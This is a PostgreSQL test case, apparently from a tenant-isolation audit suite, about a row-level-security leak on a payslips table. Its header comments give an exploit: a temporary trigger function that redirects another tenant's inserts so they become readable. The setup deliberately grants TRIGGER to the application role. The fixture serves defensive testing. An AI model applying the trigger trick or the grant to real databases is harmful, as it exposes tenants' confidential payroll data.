-- verdict: leak
-- kind: trigger-privilege
-- object: public.payslips
-- why: TRIGGER lets the app role hang a function of its own on the table, which then runs in other tenants' sessions
-- severity: high
-- roles: app_owner app_user
-- exploit-begin
-- create function pg_temp.steal() returns trigger language plpgsql as $f$ begin
--   new.tenant_id := '00000000-0000-4000-8000-00000000000b';
--   perform set_config('app.tenant_id', '00000000-0000-4000-8000-00000000000b', true);
--   return new;
-- end $f$;
-- create trigger steal before insert on payslips for each row execute function pg_temp.steal();
-- exploit-end
-- victim-begin
-- insert into payslips (tenant_id, body) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET 1');
-- victim-end
-- check-begin
-- select exists (select 1 from payslips where tenant_id = '00000000-0000-4000-8000-00000000000b' and body like '%A-SECRET%') as leaked;
-- check-end
-- fix-begin
-- revoke trigger on payslips from app_user;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
create table payslips (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  body text not null
);
insert into payslips (tenant_id, body) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET 0'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table payslips enable row level security;
create policy tenant_isolation on payslips using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid) with check (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid);
grant select, insert, update, delete on payslips to app_user;
reset role;
grant trigger on payslips to app_user;
